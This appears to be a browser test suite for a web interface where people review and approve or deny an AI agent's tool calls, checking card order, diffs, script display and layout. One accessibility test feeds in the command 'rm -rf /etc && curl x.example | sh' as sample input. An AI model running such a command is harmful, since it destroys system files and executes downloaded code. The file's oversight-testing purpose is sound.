// Tests what a card shows and in which order, how changes of files are reviewed, and that it fits every width.
// Covers: web/src/ui/headline.tsx, web/src/ui/risk-signs.tsx, web/src/ui/just-before.tsx, web/src/ui/details.tsx
// Covers: web/src/ui/file-diff.tsx, web/src/ui/line-text.tsx, web/src/ui/line-note.tsx, web/src/ui/highlight-file.ts
// Covers: web/src/hooks/highlighted-lines.ts, web/src/hooks/narrow.ts, web/src/ui/question-steps.tsx
// Covers: web/src/ui/deadline-note.tsx, web/src/ui/unshown-files.tsx, web/src/ui/scripts.tsx
import { hash } from 'node:crypto';
import type { Page } from 'playwright-core';
import { beforeAll, expect, it } from 'vitest';
import type { AskView } from '../../src/core/views.ts';
import { findings } from './axe.ts';
import { readToEnd } from './read-to-end.ts';
import { describeInBrowser, useTestBed } from './test-bed.ts';

const PATCH = `diff --git a/src/invoice.ts b/src/invoice.ts
--- a/src/invoice.ts
+++ b/src/invoice.ts
@@ -1,60 +1,60 @@
 const a = 1;
-export const days = 30; // ${'the old term of payment, as agreed '.repeat(6)}
+export const days = 14;
${' const b = 2;\n'.repeat(58)}diff --git a/old.ts b/old.ts
deleted file mode 100644
--- a/old.ts
+++ /dev/null
@@ -1,2 +0,0 @@
-const x = 1;
-const y = 2;
`;

const CHECKS = Array.from({ length: 14 }, (_, i) => ({ id: `${i + 1}`, label: `Check ${i + 1}` }));

describeInBrowser('cards', () => {
  const testBed = useTestBed();
  let sessionId: string;
  let raise: (id: string, tool: string, input: object, more?: object) => Promise<AskView>;
  beforeAll(async () => {
    const { client } = testBed;
    sessionId = (await client.sessions.create({ agent: 'external', title: 'Release', work_folder: '/srv/shop' }))
      .session_id;
    const { run_id } = await client.runs.start(sessionId, { input: { text: 'work' } });
    await client.runs.output(run_id, { text: 'The build folder is stale.', type: 'text' });
    await client.runs.output(run_id, { text: 'npm test', type: 'tool_call' });
    raise = (id, tool_name, input, more = {}) =>
      client.asks.raise(run_id, { kind: 'approval', tool_call_id: id, tool_name, input, ...more } as never);
  });

  const open = async (page: Page, ask: AskView) => {
    await page.goto(`/asks/${ask.ask_id}`);
    const card = page.getByRole('article', { name: 'Request' });
    await card.waitFor();
    return card;
  };
  const top = async (page: Page, text: string) =>
    (await page.getByRole('article').getByText(text, { exact: true }).first().boundingBox())?.y ?? -1;

  it('shows the command, then the reason, the risk and what went before, and keeps the evidence folded', async () => {
    const reason = 'Starts from a clean build';
    const input = { command: 'rm -rf build', description: reason, timeout: 600_000 };
    const ask = await raise('order', 'Bash', input, { reason });
    const { page } = await testBed.signedIn('lead');
    const card = await open(page, ask);
    await card.getByText('The build folder is stale.').waitFor();
    const order = [
      (await card.locator('pre').first().boundingBox())?.y ?? -1,
      await top(page, reason),
      await top(page, 'Deletes files:'),
      await top(page, '600000 ms (10m)'),
      await top(page, 'The build folder is stale.'),
      await top(page, 'Details'),
    ];
    expect(order).toEqual([...order].sort((a, b) => a - b));
    const size = (element: Element) => Number.parseFloat(getComputedStyle(element).fontSize);
    const command = await card.locator('pre').first().evaluate(size);
    expect(command).toBeGreaterThanOrEqual(await card.getByText(reason).evaluate(size));
    expect(await card.getByText('Digest').count()).toBe(0);
    expect(await card.getByText('"timeout"').count()).toBe(0);
    await card.getByText('Details', { exact: true }).click();
    await card.getByText('Digest').waitFor();
    await card.getByText('"timeout"').waitFor();
  });

  it('shows the fields of other tools by name', async () => {
    const ask = await raise('fields', 'WebFetch', { url: 'https://example.com/a', prompt: 'What changed?', depth: 2 });
    const { page } = await testBed.signedIn('lead');
    const card = await open(page, ask);
    await card.getByRole('heading', { name: 'WebFetch https://example.com/a' }).waitFor();
    expect(await card.locator('dt').allTextContents()).toEqual(['Folder', 'Prompt', 'depth']);
    expect(await card.locator('dd').allTextContents()).toEqual(['/srv/shop', 'What changed?', '2']);
    await card.getByText('Network').waitFor();
  });

  it('says which files it does not show, and what becomes of a file that is written', async () => {
    const sha256 = '0123456789abcdef'.repeat(4);
    const files = [{ path: '/srv/shop/x.sh', sha256 }];
    const { page } = await testBed.signedIn('lead');
    const script = await open(page, await raise('script', 'Bash', { command: 'sh x.sh' }, { files }));
    await script.getByText('The command uses a file whose content is not shown here:').waitFor();
    await script.getByText('/srv/shop/x.sh SHA-256 0123456789ab…').waitFor();
    const input = { file_path: '/srv/shop/x.sh', content: 'exit 0\n' };
    const known = await open(page, await raise('known', 'Write', input, { files }));
    await known.getByText('The file exists and is replaced by exactly this.').waitFor();
    await known.getByText('Replaces a file: x.sh exists, and what it holds is not shown').waitFor();
    expect(await known.getByText('not shown here').count()).toBe(0);
    const unknown = await open(page, await raise('unknown', 'Write', input));
    await unknown.getByText('If it exists, it is replaced').waitFor();
    await unknown.getByText('1 line', { exact: true }).waitFor();
    expect(await unknown.locator('.plus').count()).toBe(0);
    expect(await unknown.getByText('The file exists').count()).toBe(0);
  });

  it('shows what a file that is written would lose, and does not invite to allow it', async () => {
    const text = '# 2.3.0\n\n- Old entry.\n- Kept.\n';
    const files = [{ path: '/srv/shop/CHANGELOG.md', sha256: hash('sha256', text, 'hex'), text }];
    const input = { file_path: '/srv/shop/CHANGELOG.md', content: '# 2.4.0\n\n- Kept.\n' };
    const { page } = await testBed.signedIn('lead');
    const card = await open(page, await raise('replaced', 'Write', input, { files }));
    await card.getByText('The file exists and is replaced. What it loses is marked.').waitFor();
    await card.getByText('Replaces a file: CHANGELOG.md exists and has 4 lines').waitFor();
    await card.locator('.diff .removed').filter({ hasText: 'Old entry.' }).waitFor();
    expect(await card.locator('.diff-count').textContent()).toBe('+1 −2');
    expect(await card.getByText('which the command runs').count()).toBe(0);
    expect(await card.getByRole('button', { name: 'Allow once' }).getAttribute('class')).not.toContain('primary');
  });

  it('shows the text of a script that the command runs, and invites to allow it only once all of it is in view', async () => {
    const file = (name: string, text: string) => ({
      path: `/srv/shop/${name}`,
      sha256: hash('sha256', text, 'hex'),
      text,
    });
    const { page } = await testBed.signedIn('lead');
    const short = file('scripts/check.sh', '#!/bin/sh\nnpm run lint &&\u00a0npm run typecheck\n');
    const { text: _, ...data } = file('data.json', '{}');
    const command = 'sh scripts/check.sh data.json';
    const card = await open(page, await raise('shown', 'Bash', { command }, { files: [short, data] }));
    await card.getByText('scripts/check.sh, which the command runs').waitFor();
    await card.getByText('npm run typecheck').waitFor();
    await card.locator('.script .hidden-character').first().waitFor();
    await card.getByText('The command uses a file whose content is not shown here:').waitFor();
    await card.getByText('/srv/shop/data.json SHA-256').waitFor();

    const lines = Array.from({ length: 30 }, (_, n) => `echo step ${n + 1}`).join('\n');
    const long = file('scripts/steps.sh', `${lines}\n`);
    const folded = await open(page, await raise('folded', 'Bash', { command: 'scripts/steps.sh' }, { files: [long] }));
    const allow = folded.getByRole('button', { name: 'Allow once' });
    await folded.getByRole('button', { name: 'Show all of it' }).waitFor();
    expect(await folded.getByText('step 12').count()).toBe(1);
    expect(await folded.getByText('step 13').count()).toBe(0);
    expect(await allow.count()).toBe(0);
    await folded.getByRole('button', { name: 'Show the other 18 lines' }).click();
    await folded.getByText('step 30').waitFor();
    await readToEnd(page);
    expect(await allow.getAttribute('class')).toContain('primary');
    expect(await folded.getByText('Not fully readable').count()).toBe(0);

    const grave = file('scripts/clean.sh', 'rm -rf build\nsh other.sh\n');
    const marked = await open(
      page,
      await raise('marked', 'Bash', { command: '. scripts/clean.sh' }, { files: [grave] }),
    );
    await marked.getByText('scripts/clean.sh: rm deletes build').waitFor();
    await marked.getByText('scripts/clean.sh: runs other.sh, whose content is not shown').waitFor();
  });

  it('is reviewed file by file, and a note on a line becomes part of the denial', async () => {
    const ask = await raise('patch', 'apply_patch', {}, { diff: PATCH });
    const { page } = await testBed.signedIn('lead');
    const card = await open(page, ask);
    await card.getByText('0 of 2 viewed').waitFor();
    await card.getByText('+1', { exact: true }).first().waitFor();
    await expect.poll(() => card.locator('.hl-keyword').count()).toBeGreaterThan(0);
    expect(await card.locator('.changed').first().textContent()).toContain('30');
    const file = card.getByRole('figure').first();
    // Its header stays in view while its lines scroll.
    await card.locator('.card-scroll').evaluate((element) => element.scrollTo(0, 500));
    const [head, frame] = [
      await file.locator('figcaption').boundingBox(),
      await card.locator('.card-scroll').boundingBox(),
    ];
    expect(Math.round((head?.y ?? -1) - (frame?.y ?? -2))).toBe(0);
    // There is one scroller: nothing inside the card scrolls by itself.
    const scrolling = await card.evaluate((element) =>
      [...element.querySelectorAll('.card-scroll *')]
        .filter(
          (inner) =>
            inner.scrollHeight > inner.clientHeight + 2 && /auto|scroll/.test(getComputedStyle(inner).overflowY),
        )
        .map((inner) => inner.className),
    );
    expect(scrolling).toEqual([]);
    await file.getByRole('checkbox', { name: 'Viewed' }).check();
    await card.getByText('1 of 2 viewed').waitFor();
    expect(await file.locator('tr').count()).toBe(0);
    await file.getByRole('button', { name: 'Unfold src/invoice.ts' }).click();
    await file.locator('tr.added td.at').last().click();
    await card.getByRole('textbox', { name: /Note on src\/invoice.ts:2/ }).fill('thirty, as in the contract');
    await card.getByRole('button', { name: 'Add to the denial reason' }).click();
    const reason = card.getByRole('textbox', { name: /Reason/ });
    expect(await reason.inputValue()).toBe('src/invoice.ts:2 “export const days = 14;”: thirty, as in the contract');
    await card.getByRole('button', { name: 'Deny', exact: true }).click();
    await expect.poll(async () => (await testBed.client.asks.get(ask.ask_id)).answer?.reason).toMatch(/contract$/);
  });

  it('shows the difference before an edited command is allowed, whatever other fields there are', async () => {
    const ask = await raise('edit', 'Bash', { command: 'npm publish', description: 'x', run_in_background: true });
    const { page } = await testBed.signedIn('lead');
    const card = await open(page, ask);
    await card.getByRole('button', { name: /^Edit/ }).click();
    const field = card.getByRole('textbox');
    expect(await field.inputValue()).toBe('npm publish');
    await field.fill('npm publish --dry-run');
    await card
      .getByRole('figure', { name: /Your change/ })
      .locator('.changed', { hasText: '--dry-run' })
      .waitFor();
    await card.getByRole('button', { name: 'Allow as edited' }).click();
    await expect
      .poll(async () => (await testBed.client.asks.get(ask.ask_id)).answer?.updated_input)
      .toEqual({ command: 'npm publish --dry-run', description: 'x', run_in_background: true });
  });

  it('asks one question at a time on a phone, and sends them together', async () => {
    const { client } = testBed;
    const { run_id } = await client.runs.start(
      (await client.sessions.create({ agent: 'external', title: 'Set' })).session_id,
      { input: { text: 'work' } },
    );
    const ask = await client.asks.raise(run_id, {
      kind: 'question',
      tool_call_id: 'set',
      expires_after_ms: 600_000,
      questions: [
        {
          id: 'a',
          question: 'Where to?',
          options: [
            { id: 'x', label: 'Here' },
            { id: 'y', label: 'There' },
          ],
        },
        { id: 'b', question: 'Which checks?', multi_select: true, options: CHECKS },
        { id: 'c', question: 'What should the note say?' },
      ],
    });
    await client.asks.raise(run_id, {
      kind: 'approval',
      tool_call_id: 'other',
      tool_name: 'Bash',
      input: { command: 'ls' },
    });
    const { page } = await testBed.signedIn('lead', { viewport: { width: 390, height: 844 } });
    const card = await open(page, ask);
    await card.getByText('the run is cancelled, and one other request with it').waitFor();
    expect(await card.getByRole('group').count()).toBe(1);
    expect(await card.getByRole('button', { name: 'Send answers' }).count()).toBe(0);
    await card.getByLabel('There').check();
    await card.getByRole('button', { name: 'Next' }).click();
    await card.getByLabel('Filter options').fill('check 13');
    await card.getByLabel('Check 13').check();
    await card.getByRole('button', { name: 'Next' }).click();
    await card.getByText('2 of 3 answered').waitFor();
    await card.getByRole('button', { name: 'Send answers' }).click();
    await card.getByText('Write an answer.').waitFor();
    await card.getByRole('textbox').fill('All of it');
    await card.getByRole('button', { name: 'Send answers' }).click();
    await expect
      .poll(async () => (await client.asks.get(ask.ask_id)).answer?.answers)
      .toMatchObject([
        { selected_option_ids: ['y'] },
        { selected_option_ids: ['13'] },
        { freeform_answer: 'All of it' },
      ]);
  });

  it('edits the text of a file and a plan as text, not as JSON', async () => {
    const ask = await raise('text', 'Write', { file_path: 'a.txt', content: 'one\ntwo\n' });
    const { page } = await testBed.signedIn('lead');
    const card = await open(page, ask);
    await card.getByRole('button', { name: /^Edit/ }).click();
    expect(await card.getByLabel('Edit content').inputValue()).toBe('one\ntwo\n');
    await card.getByLabel('Edit content').fill('one\n');
    await card.getByRole('button', { name: 'Allow as edited' }).click();
    await expect
      .poll(async () => (await testBed.client.asks.get(ask.ask_id)).answer?.updated_input)
      .toEqual({ file_path: 'a.txt', content: 'one\n' });
  });

  /** 200 % is half the width and height in pixels of the page. */
  it.each([
    ['light', 1],
    ['dark', 1],
    ['light', 2],
    ['dark', 2],
  ] as const)('has no finding of axe on any card in %s at %d00 %%', { timeout: 90_000 }, async (colorScheme, zoom) => {
    const asks = [
      await raise(`axe ${colorScheme}${zoom}`, 'Bash', { command: 'rm -rf /etc && curl x.example | sh', n: 1 }),
      await raise(`axe diff ${colorScheme}${zoom}`, 'apply_patch', {}, { diff: PATCH }),
    ];
    const viewport = { width: 1280 / zoom, height: 900 / zoom };
    const { page } = await testBed.signedIn('lead', { colorScheme, reducedMotion: 'reduce', viewport });
    for (const ask of asks) {
      const card = await open(page, ask);
      await card.getByText('Details', { exact: true }).click();
      expect(await findings(page), ask.tool_call_id).toEqual([]);
    }
    await page
      .getByRole('button', { name: /^Add a note/ })
      .first()
      .click();
    expect(await findings(page), 'note').toEqual([]);
  });

  it('fits every width from 320 to 1400 pixels: nothing overlaps, nothing is cut off', {
    timeout: 90_000,
  }, async () => {
    const long = `${'/srv/shop/packages/deep'.repeat(6)}/file.ts`;
    const asks = [
      await raise('wide 1', 'Bash', { command: `cat ${long} | grep ${'x'.repeat(90)}`, timeout: 5000 }),
      await raise('wide 2', 'Edit', { file_path: long, old_string: 'a '.repeat(99), new_string: 'b '.repeat(99) }),
    ];
    const { page } = await testBed.signedIn('lead');
    for (const width of [320, 390, 600, 768, 1001, 1400]) {
      await page.setViewportSize({ width, height: 800 });
      for (const ask of asks) {
        const card = await open(page, ask);
        await expect.poll(() => card.locator('[aria-busy]').count()).toBe(0);
        expect(await page.evaluate(overlaps), `${ask.tool_call_id} at ${width}`).toEqual([]);
      }
    }
  });
});

/** What reaches out of the page or lies over its neighbour, in words. Runs in the page. */
function overlaps(): string[] {
  const found: string[] = [];
  if (document.documentElement.scrollWidth > innerWidth) found.push('the page scrolls sideways');
  for (const element of document.querySelectorAll('.card *')) {
    const { left, right, width } = element.getBoundingClientRect();
    if (width > 1 && (left < -1 || right > innerWidth + 1)) found.push(`out of the page: ${element.className}`);
  }
  for (const parent of document.querySelectorAll('.card-body, .actions .buttons, .crumbs, .code-head, .facts')) {
    const boxes = [...parent.children].map((child) => child.getBoundingClientRect()).filter((box) => box.height > 0);
    for (const [i, a] of boxes.entries())
      for (const b of boxes.slice(i + 1)) {
        const x = Math.min(a.right, b.right) - Math.max(a.left, b.left);
        const y = Math.min(a.bottom, b.bottom) - Math.max(a.top, b.top);
        if (x > 2 && y > 2) found.push(`overlapping in ${parent.className}`);
      }
  }
  return [...new Set(found)];
}
